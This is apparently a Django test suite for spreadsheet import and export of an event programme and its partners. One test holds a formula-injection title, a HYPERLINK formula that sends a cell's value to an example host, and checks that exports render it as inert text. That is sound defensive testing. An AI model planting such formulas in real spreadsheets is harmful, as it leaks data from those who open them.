"""Import and export of the programme and partners as spreadsheets, by an organiser."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from import_export.tmp_storages import TempFolderStorage

from events.admin.spreadsheets import TEMPLATE_FILE, template_dataset
from events.models import Category, EditionPartner, Event, Session
from events.resources import COLUMN_NAMES, COLUMNS
from quinzaine.text import fold
from tests.factories import aware, make_edition, make_event, make_partner, make_session, make_venue
from tests.helpers import (
    CSV_FORMAT,
    IMPORT_URL,
    PROCESS_URL,
    XLSX_FORMAT,
    confirm,
    csv_file,
    dry_run,
    import_file,
    parse,
    preview,
    row,
    twenty_rows,
)
from venues.models import Venue

pytestmark = pytest.mark.django_db


@pytest.fixture
def edition():
    return make_edition(
        name="Quinzaine du Japon 2027",
        year=2027,
        slug="2027",
        starts_on=datetime.date(2027, 11, 12),
        ends_on=datetime.date(2027, 11, 26),
    )


def xlsx_file(rows, name="programme.xlsx"):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(COLUMN_NAMES)
    for cells in rows:
        sheet.append([cells.get(column) for column in COLUMN_NAMES])
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def programme_state():
    """Return every session with its event and place, as comparable tuples."""
    return [
        (
            s.event.edition.slug,
            s.event.title,
            s.event.status,
            timezone.localtime(s.starts_at).isoformat(),
            timezone.localtime(s.ends_at).isoformat(),
            s.is_all_day,
            str(s.place),
            s.capacity,
        )
        for s in Session.objects.select_related("event__edition", "venue", "event__venue").order_by(
            "event__title", "starts_at"
        )
    ]


class TestDryRun:
    def test_lists_each_rows_fate_and_imports_nothing(self, client, organiser, edition):
        make_venue(name="Médiathèque Émile Zola", town="Montpellier", department="34")
        existing = make_event(
            edition, title="Estampes d'Hokusai", slug="estampes", status=Event.Status.PUBLISHED
        )
        make_session(existing, *_whole_days_2027(12, 26), is_all_day=True)
        before = programme_state()
        venues = Venue.objects.count()
        rows = [
            row(),
            row(
                date="14/11/2027",
                lieu="Maison du Japon",
                commune="Montpellier",
                **{"code postal": "34000"},
            ),
            row(
                titre="Estampes d'Hokusai",
                catégorie="Exposition",
                lieu="Médiathèque Émile Zola",
                commune="Montpellier",
                **{"toute la journée": "oui", "date de fin": "26/11/2027"},
                date="12/11/2027",
            ),
            row(titre="Atelier", catégorie="Origami"),
            row(titre="", catégorie="Spectacle"),
            row(titre="Concert tardif", début="22:00", fin="21:00"),
            row(titre="Hors édition", date="02/12/2027"),
            row(titre="Adresse fausse", lieu="Salle neuve", **{"code postal": "3100"}),
            row(titre="Nuit du changement d'heure", date="28/03/2027", début="02:30", fin="03:30"),
        ]
        response = dry_run(client, edition, csv_file(rows))

        assert preview(response) == [
            (
                "2",
                "À créer",
                "Concert de taiko",
                "samedi 13 novembre 2027, 20:00 – 22:00",
                "Halle aux grains (Toulouse)",
                "nouvel événement, nouveau lieu",
            ),
            (
                "3",
                "À créer",
                "Concert de taiko",
                "dimanche 14 novembre 2027, 20:00 – 22:00",
                "Maison du Japon (Montpellier)",
                "même événement que la ligne 2, nouveau lieu",
            ),
            (
                "4",
                "À mettre à jour",
                "Estampes d'Hokusai",
                "du vendredi 12 novembre 2027 au vendredi 26 novembre 2027",
                "Médiathèque Émile Zola (Montpellier)",
                "événement inchangé",
            ),
            (
                "5",
                "Refusée",
                "Atelier",
                "—",
                "—",
                "catégorie : « Origami » inconnue : choisissez parmi Exposition, Atelier "
                "culinaire, Projection, Méditation, Conférence, Spectacle, Sport, Rencontre "
                "économique, Atelier, Visite.",
            ),
            ("6", "Refusée", "—", "—", "—", "titre : Il manque le titre de l'événement."),
            (
                "7",
                "Refusée",
                "Concert tardif",
                "—",
                "—",
                "fin : La fin (21:00) doit venir après le début (22:00).",
            ),
            (
                # A warning, with the admin's words: the organiser may mean it.
                "8",
                "À créer",
                "Hors édition",
                "jeudi 2 décembre 2027, 20:00 – 22:00",
                "Halle aux grains (Toulouse)",
                "nouvel événement, La séance du jeudi 2 décembre 2027, 20:00 est hors des dates "
                "de l'édition (12 novembre – 26 novembre 2027).",
            ),
            (
                "9",
                "Refusée",
                "Adresse fausse",
                "—",
                "—",
                "code postal : « 3100 » n'est pas un code postal : il faut 5 chiffres.",
            ),
            (
                "10",
                "Refusée",
                "Nuit du changement d'heure",
                "—",
                "—",
                "début : Le 28 mars 2027 à 02:30 n'existe pas : cette nuit-là, les horloges "
                "passent de 2 h à 3 h (heure d'été). Choisissez une autre heure.",
            ),
        ]
        page = parse(response)
        assert page.select_one("h2#import-preview-title").get_text(strip=True) == (
            "Aperçu : lignes refusées, rien n'a été importé"
        )
        assert page.select_one("form.import-confirm") is None
        assert programme_state() == before
        assert Venue.objects.count() == venues

    def test_valid_file_offers_the_confirmation(self, client, organiser, edition):
        response = dry_run(client, edition, csv_file([row(), row(date="14/11/2027")]))

        assert [line[:2] for line in preview(response)] == [("2", "À créer"), ("3", "À créer")]
        assert parse(response).select_one("h2#import-preview-title").get_text(strip=True) == (
            "Aperçu de l'import"
        )
        assert parse(response).select_one("form.import-confirm input[name=confirm]")["value"] == (
            "Confirmer l'import"
        )
        assert Event.objects.count() == 0

    def test_file_without_title_column_is_refused_in_french(self, client, organiser, edition):
        upload = SimpleUploadedFile("x.csv", b"nom,jour\nConcert,13/11/2027\n")
        response = dry_run(client, edition, upload)

        assert [
            li.get_text(strip=True) for li in parse(response).select("#import-file-errors li")
        ] == [
            "Le fichier doit avoir au moins les colonnes « titre » et « date » sur sa première "
            "ligne : partez du fichier modèle."
        ]


def _whole_days_2027(first, last):
    return aware(2027, 11, first), aware(2027, 11, last + 1)


class TestImport:
    def test_translation_columns_fill_the_english_and_japanese_texts(
        self, client, organiser, edition
    ):
        translated = {
            "titre en anglais": "Taiko concert",
            "titre en japonais": "和太鼓コンサート",
            "résumé en anglais": "Japanese drums.",
            "résumé en japonais": "和太鼓の演奏。",
            "tarif en anglais": "€12, €8 concessions",
            "tarif en japonais": "一般12ユーロ、割引8ユーロ",
        }
        cells = row(gratuit="non", tarif="12 €, 8 € réduit", résumé="Tambours.", **translated)
        import_file(client, edition, csv_file([cells]))
        event = Event.objects.get()
        assert (event.price_fr, event.price_en, event.price_ja) == (
            "12 €, 8 € réduit",
            "€12, €8 concessions",
            "一般12ユーロ、割引8ユーロ",
        )
        assert (event.title_en, event.summary_ja) == ("Taiko concert", "和太鼓の演奏。")
        exported = client.post(
            reverse("admin:events_event_export") + f"?edition__id__exact={edition.pk}",
            {"format": CSV_FORMAT},
        )
        line = next(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
        assert {column: line[column] for column in translated} == translated

    def test_bad_row_in_the_middle_leaves_the_database_unchanged(self, client, organiser, edition):
        rows = twenty_rows()
        upload = csv_file(rows)
        response = dry_run(client, edition, upload)
        assert parse(response).select_one("form.import-confirm") is not None
        # The file changes between preview and confirmation: its 10th row goes bad.
        rows[9]["date"] = "31/11/2027"
        data = {
            field["name"]: field.get("value", "")
            for field in parse(response).select("form.import-confirm input[name]")
        }
        stored = TempFolderStorage(name=data["import_file_name"]).get_full_path()
        with open(stored, "wb") as file:
            file.write(csv_file(rows).read())
        response = client.post(PROCESS_URL, data)

        assert [line[:2] for line in preview(response) if line[1] != "À créer"] == [
            ("11", "Refusée")
        ]

        assert Event.objects.count() == 0
        assert Session.objects.count() == 0
        assert Venue.objects.count() == 0

    def test_twenty_row_csv_creates_events_sessions_and_venues(self, client, organiser, edition):
        make_venue(
            name="Médiathèque Émile Zola", town="Montpellier", department="34", postcode="34000"
        )
        make_venue(name="Halle aux Grains", town="toulouse")
        response = import_file(client, edition, csv_file(twenty_rows(), delimiter=";"))

        assert [str(m) for m in response.wsgi_request._messages] == [
            "Import terminé. Séances créées : 20 ; mises à jour : 0 ; inchangées : 0."
        ]
        assert Session.objects.count() == 20
        events = Event.objects.in_edition(edition)
        assert sorted(events.values_list("title", "status"), key=lambda pair: fold(pair[0])) == [
            ("Atelier de cuisine japonaise", "draft"),
            ("Cérémonie du thé", "draft"),
            ("Clôture à Albi", "published"),
            ("Concert de taiko", "draft"),
            ("Conférence sur Kyoto", "draft"),
            ("Estampes d'Hokusai", "draft"),
            ("Méditation zen", "draft"),
            ("Projection : Le Voyage de Chihiro", "draft"),
            ("Rencontre Club Japon Occitanie", "draft"),
            ("Sport : initiation au judo", "draft"),
        ]
        assert sorted(Venue.objects.values_list("name", "town", "postcode", "department")) == [
            ("Cinéma Le Sémaphore", "Nîmes", "30000", "30"),
            ("Halle aux Grains", "toulouse", "31000", "31"),
            ("Jardin japonais", "Toulouse", "31000", "31"),
            ("Médiathèque Émile Zola", "Montpellier", "34000", "34"),
            ("Scène nationale", "Albi", "81000", "81"),
        ]
        workshop = events.get(title="Atelier de cuisine japonaise")
        assert (workshop.is_free, workshop.price, workshop.booking, workshop.booking_email) == (
            False,
            "15 €",
            "required",
            "atelier@example.org",
        )
        assert [
            (
                f"{timezone.localtime(s.starts_at):%A %d/%m %H:%M}",
                f"{timezone.localtime(s.ends_at):%H:%M}",
            )
            for s in workshop.sessions.all()
        ] == [
            ("Sunday 14/11 10:00", "12:00"),
            ("Monday 15/11 10:00", "12:00"),
            ("Sunday 21/11 10:00", "12:00"),
            ("Monday 22/11 10:00", "12:00"),
        ]
        assert workshop.sessions.first().starts_at == aware(2027, 11, 14, 10)
        exhibition = events.get(title="Estampes d'Hokusai").sessions.get()
        assert (exhibition.is_all_day, exhibition.first_day, exhibition.last_day) == (
            True,
            datetime.date(2027, 11, 12),
            datetime.date(2027, 11, 26),
        )
        late = events.get(title="Rencontre Club Japon Occitanie").sessions.get()
        assert (late.starts_at, late.ends_at) == (
            aware(2027, 11, 24, 22, 30),
            aware(2027, 11, 25, 0, 30),
        )
        assert events.get(title="Concert de taiko").sessions.first().capacity == 300

    def test_xlsx_with_date_and_time_cells_imports_local_times(self, client, organiser, edition):
        rows = [
            row(
                date=datetime.datetime(2027, 11, 13),
                début=datetime.time(20, 0),
                fin=datetime.time(22, 15),
                **{"code postal": 9000},
                commune="Foix",
                lieu="Salle Isabelle Sandy",
            ),
            row(
                date=datetime.datetime(2027, 11, 14),
                début="18:30",
                fin="19:30",
                **{"code postal": 9000},
                commune="Foix",
                lieu="Salle Isabelle Sandy",
            ),
        ]
        import_file(client, edition, xlsx_file(rows), XLSX_FORMAT)

        sessions = Session.objects.all()
        assert [(s.starts_at, s.ends_at) for s in sessions] == [
            (aware(2027, 11, 13, 20), aware(2027, 11, 13, 22, 15)),
            (aware(2027, 11, 14, 18, 30), aware(2027, 11, 14, 19, 30)),
        ]
        venue = Venue.objects.get()
        assert (venue.name, venue.postcode, venue.department) == (
            "Salle Isabelle Sandy",
            "09000",
            "09",
        )

    def test_importing_the_same_file_again_updates_instead_of_duplicating(
        self, client, organiser, edition
    ):
        import_file(client, edition, csv_file(twenty_rows()))
        first = programme_state()
        changed = twenty_rows()
        changed[0]["places"] = "250"
        response = dry_run(client, edition, csv_file(changed))

        # The one row changed is updated; the others change nothing and are left unwritten.
        fates = [line[1] for line in preview(response)]
        assert fates == ["À mettre à jour"] + ["Inchangée"] * 19
        confirm(client, response)
        assert Session.objects.count() == 20
        assert Event.objects.count() == 10
        assert Venue.objects.count() == 5
        assert Session.objects.filter(capacity=250).count() == 1
        assert len(programme_state()) == len(first)


class TestExport:
    def test_export_round_trips_through_import(self, client, organiser, edition):
        import_file(client, edition, csv_file(twenty_rows()))
        other = make_edition(
            name="Copie", slug="copie", starts_on=edition.starts_on, ends_on=edition.ends_on
        )
        make_session(make_event(other, title="Hors du filtre"), aware(2027, 11, 13, 10))
        exported = client.post(
            reverse("admin:events_event_export") + f"?edition__id__exact={edition.pk}",
            {"format": CSV_FORMAT},
        )
        assert exported["Content-Type"] == "text/csv"
        text = exported.content.decode("utf-8-sig")
        lines = list(csv.reader(io.StringIO(text)))
        assert lines[0] == COLUMN_NAMES
        assert len(lines) == 21

        upload = SimpleUploadedFile("programme.csv", exported.content)
        response = import_file(client, other, upload)
        assert [str(m) for m in response.wsgi_request._messages] == [
            "Import terminé. Séances créées : 20 ; mises à jour : 0 ; inchangées : 0."
        ]
        state = programme_state()
        originals = [s[1:] for s in state if s[0] == edition.slug]
        copies = [s[1:] for s in state if s[0] == "copie" and s[1] != "Hors du filtre"]
        assert copies == originals
        # Back into its own edition, the export changes nothing.
        upload = SimpleUploadedFile("programme.csv", exported.content)
        response = dry_run(client, edition, upload)
        assert {line[1] for line in preview(response)} == {"Inchangée"}

    def test_an_unchanged_export_imports_back_as_unchanged_and_writes_nothing(
        self, client, organiser, edition
    ):
        import_file(client, edition, csv_file(twenty_rows()))
        # Accepted by the admin with a warning: outside the edition's days.
        late = make_event(edition, title="Après la quinzaine", venue=make_venue())
        make_session(late, aware(2027, 12, 2, 20))
        # A session given its event's own venue, as an approved proposal's are.
        make_session(late, aware(2027, 11, 20, 20), venue=late.venue)
        feed = reverse("events:programme-ics", kwargs={"edition": edition.slug})
        before_feed = client.get(feed)
        stamps = {
            "events": dict(Event.objects.values_list("pk", "updated_at")),
            "sessions": dict(Session.objects.values_list("pk", "updated_at")),
            "sequences": dict(Session.objects.values_list("pk", "sequence")),
        }
        exported = client.post(
            reverse("admin:events_event_export") + f"?edition__id__exact={edition.pk}",
            {"format": CSV_FORMAT},
        )
        upload = SimpleUploadedFile("programme.csv", exported.content)
        preview_page = dry_run(client, edition, upload)
        fates = {line[1] for line in preview(preview_page)}
        assert fates == {"Inchangée"}
        response = confirm(client, preview_page)
        assert [str(m) for m in response.wsgi_request._messages] == [
            "Import terminé. Séances créées : 0 ; mises à jour : 0 ; inchangées : 22."
        ]
        assert {
            "events": dict(Event.objects.values_list("pk", "updated_at")),
            "sessions": dict(Session.objects.values_list("pk", "updated_at")),
            "sequences": dict(Session.objects.values_list("pk", "sequence")),
        } == stamps
        cache.clear()
        after_feed = client.get(feed, headers={"if-none-match": before_feed["ETag"]})
        assert after_feed.status_code == 304
        assert after_feed["Last-Modified"] == before_feed["Last-Modified"]

    @pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
    def test_formulas_are_exported_as_text_and_import_back_unchanged(
        self, client, organiser, edition, file_format
    ):
        title = '=HYPERLINK("https://example.org/?leak="&A2,"Voir la billetterie")'
        event = make_event(edition, title=title, price="-5 € le jeudi", is_free=False)
        event.booking_phone = "+33 5 00 00 00 00"
        event.save()
        make_session(event, aware(2027, 11, 13, 20), note="@équipe : salle 2")
        exported = client.post(
            reverse("admin:events_event_export") + f"?edition__id__exact={edition.pk}",
            {"format": file_format},
        )
        if file_format == XLSX_FORMAT:
            sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
            cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
            # Text cells, never formulas: the sheet runs nothing when opened.
            assert cells[title] == "s"
            assert "f" not in set(cells.values())
        else:
            rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
            cells = dict(zip(rows[0], rows[1], strict=True))
            assert cells["titre"] == "'" + title
            assert cells["téléphone de réservation"] == "'+33 5 00 00 00 00"
            assert cells["remarque"] == "'@équipe : salle 2"
        name = "programme.xlsx" if file_format == XLSX_FORMAT else "programme.csv"
        response = dry_run(client, edition, SimpleUploadedFile(name, exported.content), file_format)
        assert {line[1] for line in preview(response)} == {"Inchangée"}
        import_file(client, edition, SimpleUploadedFile(name, exported.content), file_format)
        event.refresh_from_db()
        assert (event.title, event.price, event.booking_phone) == (
            title,
            "-5 € le jeudi",
            "+33 5 00 00 00 00",
        )
        assert event.sessions.get().note == "@équipe : salle 2"

    def test_xlsx_export_of_a_filtered_session_list(self, client, organiser, edition):
        import_file(client, edition, csv_file(twenty_rows()))
        exported = client.post(
            reverse("admin:events_session_export") + "?q=taiko", {"format": XLSX_FORMAT}
        )
        sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
        rows = list(sheet.values)
        assert list(rows[0]) == COLUMN_NAMES
        assert [(r[0], r[19], r[21], r[22]) for r in rows[1:]] == [
            ("Concert de taiko", "13/11/2027", "20:00", "22:00"),
            ("Concert de taiko", "14/11/2027", "20:00", "22:00"),
            ("Concert de taiko", "20/11/2027", "20:00", "22:00"),
        ]

    def test_partners_export(self, client, organiser, edition):
        partner = make_partner(
            name="Association Yujo", kind="founding", website="https://yujo.example.org"
        )
        EditionPartner.objects.create(edition=edition, partner=partner, role="founding")
        event = make_event(edition, title="Lancement")
        event.organisers.add(partner)
        other = make_partner(name="Partenaire d'une autre édition")
        EditionPartner.objects.create(edition=make_edition(), partner=other)
        exported = client.post(
            reverse("admin:events_partner_export")
            + f"?partnerships__edition__id__exact={edition.pk}",
            {"format": CSV_FORMAT},
        )

        lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
        assert lines == [
            [
                "nom",
                "type",
                "site web",
                "présentation",
                "éditions et rôles",
                "événements organisés",
                "page publique",
            ],
            [
                "Association Yujo",
                "membre fondateur",
                "https://yujo.example.org",
                "",
                "Quinzaine du Japon 2027 : Membres fondateurs",
                "Lancement",
                settings.SITE_URL + partner.get_absolute_url(),
            ],
        ]
        assert exported["Content-Disposition"] == (
            f'attachment; filename="partenaires-{timezone.localdate():%Y-%m-%d}.csv"'
        )


class TestAdminPages:
    def test_organiser_sees_import_and_export_buttons_in_french(self, client, organiser):
        page = parse(client.get(reverse("admin:events_event_changelist")))
        assert [a.get_text(strip=True) for a in page.select(".object-tools a")][:2] == [
            "Importer",
            "Exporter",
        ]
        for model in ("partner", "session"):
            page = parse(client.get(reverse(f"admin:events_{model}_changelist")))
            assert [a.get_text(strip=True) for a in page.select(".object-tools a.export_link")] == [
                "Exporter"
            ]

    def test_import_page_explains_every_column_and_offers_the_templates(
        self, client, organiser, edition
    ):
        page = parse(client.get(IMPORT_URL))
        explained = [
            (tr.th.get_text(strip=True), tr.td.get_text(strip=True))
            for tr in page.select("#import-columns tbody tr")
        ]
        assert explained == [(c.name, str(c.help)) for c in COLUMNS]
        links = [a["href"] for a in page.select("#import-form a[href*=modele]")]
        assert links == [
            reverse("admin:events_event_import_template", args=["csv"]),
            reverse("admin:events_event_import_template", args=["xlsx"]),
        ]
        xlsx = client.get(links[1])
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
        assert [list(r) for r in sheet.values] == [
            list(template_dataset().headers),
            *([None if c == "" else c for c in r] for r in template_dataset()),
        ]

    def test_template_file_has_the_import_columns_and_imports(self, client, organiser, edition):
        assert template_dataset().headers == COLUMN_NAMES
        upload = SimpleUploadedFile("modele.csv", TEMPLATE_FILE.read_bytes())
        response = dry_run(client, edition, upload)
        assert [line[1] for line in preview(response)] == ["À créer"] * 5

    def test_readme_documents_every_column(self):
        readme = (TEMPLATE_FILE.parents[2] / "README.md").read_text(encoding="utf-8")
        assert [c.name for c in COLUMNS if f"`{c.name}`" not in readme] == []

    def test_staff_without_the_organisers_group_cannot_import(self, client, edition):
        user = User.objects.create_user("visiteur", password="x", is_staff=True)
        client.force_login(user)
        assert client.get(IMPORT_URL).status_code == 403


class TestCache:
    def test_an_import_shows_on_the_next_public_request(self, client, organiser, edition):
        edition.is_current = True
        edition.save()
        public = client.__class__()
        url = reverse("events:programme", kwargs={"edition": edition.slug})
        titles_before = parse(public.get(url)).get_text()
        assert "Concert de taiko" not in titles_before
        import_file(client, edition, csv_file([row(statut="publié")]))

        assert "Concert de taiko" in parse(public.get(url)).get_text()


def test_category_of_the_template_exists():
    assert set(template_dataset()["catégorie"]) - {""} <= set(
        Category.objects.values_list("name", flat=True)
    )


class TestPlainAnswers:
    def test_an_impossible_date_is_answered_plainly(self, client, organiser, edition):
        response = dry_run(client, edition, csv_file([row(date="31/11/2027")]))
        assert preview(response)[0][5] == (
            "date : Le 31/11/2027 n'existe pas : novembre 2027 n'a que 30 jours."
        )

    def test_a_free_event_with_an_english_price_is_refused_under_its_column(
        self, client, organiser, edition
    ):
        cells = row(gratuit="oui", **{"tarif en anglais": "€12"})
        response = dry_run(client, edition, csv_file([cells]))
        assert preview(response)[0][5] == (
            "tarif en anglais : Un événement gratuit n'a pas de tarif : décochez « gratuit » "
            "ou videz le tarif."
        )

    def test_the_import_form_offers_the_edition_being_prepared(self, client, organiser, edition):
        # The home page still shows the last edition, over; 2027 is being prepared.
        make_edition(name="Quinzaine 2023", slug="2023", is_current=True)
        page = parse(client.get(IMPORT_URL))
        chosen = page.select_one("select[name=edition] option[selected]")
        assert chosen["value"] == str(edition.pk)


def test_an_imported_french_title_in_japanese_is_flagged(client, organiser, edition):
    response = dry_run(client, edition, csv_file([row(titre="茶道体験")]))
    notes = preview(response)[0][-1]
    assert "nouvel événement" in notes
    assert "Le titre français « 茶道体験 » est en japonais" in notes


def test_two_overlapping_rows_at_a_new_venue_are_flagged(client, organiser, edition):
    rows = [
        row(
            titre="Concert de koto", lieu="Salle neuve", commune="Albi", **{"code postal": "81000"}
        ),
        row(
            titre="Atelier de shodō",
            lieu="Salle neuve",
            commune="Albi",
            début="21:00",
            fin="23:00",
            **{"code postal": "81000"},
        ),
        row(
            titre="Thé du soir",
            lieu="Salle neuve",
            commune="Albi",
            début="22:30",
            fin="23:30",
            **{"code postal": "81000"},
        ),
    ]
    notes = [line[-1] for line in preview(dry_run(client, edition, csv_file(rows)))]
    assert "chevauche" not in notes[0]
    assert "chevauche la ligne 2 (« Concert de koto ») au même lieu." in notes[1]
    # 22:30 is after the concert's end (22:00): only the workshop overlaps.
    assert notes[2] == "nouvel événement, chevauche la ligne 3 (« Atelier de shodō ») au même lieu."
